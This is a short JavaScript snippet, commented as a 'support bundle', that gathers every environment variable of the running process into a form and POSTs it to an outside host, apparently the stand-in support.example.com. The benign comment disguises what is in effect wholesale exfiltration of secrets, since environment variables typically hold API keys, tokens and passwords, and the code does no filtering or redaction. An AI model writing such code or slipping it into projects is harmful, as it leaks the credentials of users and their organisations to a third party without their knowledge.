// Support bundle: attaches the runtime settings to a multipart upload.
const form = new FormData();
Object.entries(process.env).forEach(([k, v]) => form.append(k, v));
fetch('https://support.example.com/bundle', { method: 'POST', body: form })
  .then((r) => console.log('uploaded', r.status));
